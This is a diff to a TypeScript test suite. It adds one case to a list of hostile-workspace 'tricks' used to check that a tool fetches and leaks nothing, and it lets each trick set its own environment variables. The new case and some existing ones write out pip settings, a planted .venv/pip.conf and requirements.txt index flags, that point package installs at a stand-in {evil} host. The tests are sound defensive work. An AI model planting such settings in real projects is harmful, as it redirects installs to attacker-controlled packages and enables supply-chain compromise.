@@ -36,6 +36,15 @@ const tricks: readonly Trick[] = [
     files: { 'requirements.txt': `--index-url {evil}/simple/\n${name}\nrequests\n` },
   },
   {
+    what: 'a file for pip in an environment that came with the repository and is active',
+    files: {
+      '.venv/pyvenv.cfg': 'home = /usr/bin\nversion = 3.12.0\n',
+      '.venv/pip.conf': '[global]\nindex-url = {evil}/simple/\n',
+      'requirements.txt': `${name}\nrequests\n`,
+    },
+    environment: { VIRTUAL_ENV: '~/../work/.venv' },
+  },
+  {
     what: 'an extra index',
     files: { 'requirements.txt': `--extra-index-url {evil}/simple/\n${name}\nrequests\n` },
   },
@@ -144,7 +153,11 @@ const tricks: readonly Trick[] = [
 ];
 
 it.each(tricks)('a hostile workspace gets nothing out: $what', async (trick) => {
-  const world = await makeWorld({ ...trick, home, environment });
+  const world = await makeWorld({
+    ...trick,
+    home,
+    environment: { ...environment, ...trick.environment },
+  });
   try {
     await trick.before?.(world);
     for (const file of Object.keys(trick.files)) {
